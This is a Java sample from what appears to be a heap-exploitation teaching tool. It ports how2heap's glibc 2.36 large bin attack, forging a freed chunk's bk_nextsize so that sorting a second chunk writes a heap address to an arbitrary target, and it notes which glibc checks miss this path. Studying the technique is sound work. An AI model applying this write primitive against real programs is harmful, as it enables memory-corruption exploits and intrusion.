package io.mallocscope.samples;

import io.mallocscope.runtime.CProgram;
import io.mallocscope.runtime.LibC;

import static io.mallocscope.runtime.LibC.STDOUT;

/**
 * Large bin attack: a port of how2heap's {@code glibc_2.36/large_bin_attack.c}. Sorting a chunk into a
 * large bin writes its address through a forged bk_nextsize: an arbitrary write of a heap address.
 *
 * <p>What to notice:
 * a) p1 (0x430) sits alone in its large bin; p2 (0x420, same bin, smaller) waits in the unsorted bin;
 * b) p1's bk_nextsize is overwritten with {@code &target - 0x20};
 * c) sorting p2 in as the new smallest chunk of the bin runs
 *    {@code victim->bk_nextsize->fd_nextsize = victim} without checking bk_nextsize, so target now
 *    holds p2's chunk address.
 *
 * <p>Which check stops it: the two checks added in 2.30 guard only the other insertion path (a chunk
 * bigger than the smallest); this path is open in 2.36. glibc 2.42 adds a check of bk_nextsize on this
 * path too (how2heap lists the technique as working before 2.42).
 *
 * <p>Run: {@code ./mallocscope run large-bin-attack}
 */
@Sample(name = "large-bin-attack", description = "how2heap: a forged bk_nextsize writes a heap address anywhere")
public final class LargeBinAttack implements CProgram {

    @Override
    public int main(LibC c, String[] argv) {
        c.setbufNone(STDOUT);
        c.printf("Large bin attack: write a chunk address through bk_nextsize.\n");
        long target = c.local(8);
        c.putLong(target, 0);
        c.printf("Target at %p holds %lu.\n", target, c.getLong(target));

        long p1 = c.malloc(0x428);
        c.printf("p1, a large chunk: %p\n", p1 - 16);
        c.malloc(0x18);
        long p2 = c.malloc(0x418);
        c.printf("p2, smaller, same large bin: %p\n", p2 - 16);
        c.malloc(0x18);

        c.free(p1);
        c.printf("free(p1) (%p), then a bigger request sorts it into its large bin.\n", p1 - 16);
        c.malloc(0x438);
        c.free(p2);
        c.printf("free(p2) (%p): it waits in the unsorted bin.\n", p2 - 16);

        c.putLong(p1 + 24, target - 0x20);
        c.printf("p1->bk_nextsize = target - 0x20 (%p)\n", target - 0x20);

        c.malloc(0x438);
        c.printf("Another bigger request sorts p2 in behind p1.\n");
        c.printf("Target (%p): %p\n", target, c.getLong(target));
        c.assertTrue(p2 - 16 == c.getLong(target), "(size_t)(p2-2) == target");
        return 0;
    }
}
